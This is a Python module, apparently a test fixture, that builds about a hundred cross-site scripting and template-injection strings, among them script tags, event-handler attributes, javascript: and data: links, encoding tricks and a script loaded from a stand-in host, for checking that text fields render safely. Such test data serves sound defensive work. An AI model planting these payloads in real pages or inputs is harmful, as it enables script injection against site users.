"""A hundred texts that would be markup or a script if a page showed them as they are."""

from __future__ import annotations

_CALL = "alert(1)"
_TAGS = (
    "script", "img src=x onerror", "svg onload", "body onload", "iframe srcdoc", "video onerror",
    "audio onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus",
    "textarea autofocus onfocus", "marquee onstart", "object data", "embed src", "math href",
    "form action", "button formaction", "a href", "base href", "link rel=stylesheet href",
    "meta http-equiv=refresh content", "style onload", "isindex action", "keygen autofocus onfocus",
    "table background", "div onpointerover", "p onclick", "b onmouseover", "template onload",
    "noscript onload",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "vbscript:",
    "data:text/html,", "data:text/html;base64,", "file:///etc/passwd#", "blob:", "about:",
    "//elsewhere.example/", "https:\\\\elsewhere.example/", "&#106;avascript:", "javascript&colon;",
)  # fmt: skip
_BREAKS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//elsewhere.example/x.js></script>",
    "<img/src=x/onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "{{ request.session.__class__ }}",
    "${alert(1)}#{alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    "<x onclick=alert(1) id=main>",
    "<form id=selection action=/undo><button>x</button></form>",
    "<input name=csrf value=stolen>",
    "![x](https://elsewhere.example/x.png)",
    '<img src="//elsewhere.example/x.png">',
)  # fmt: skip

PAYLOADS = (
    *(
        f"<{tag}={_CALL}>" if "=" in tag or " " in tag else f"<{tag}>{_CALL}</{tag}>"
        for tag in _TAGS
    ),
    *(f"[x]({scheme}{_CALL})" for scheme in _SCHEMES),
    *(f"<a href='{scheme}{_CALL}'>x</a>" for scheme in _SCHEMES),
    *_BREAKS,
)
"""Each is one text of a field; Markdown shows some of them as links, which then lead nowhere."""
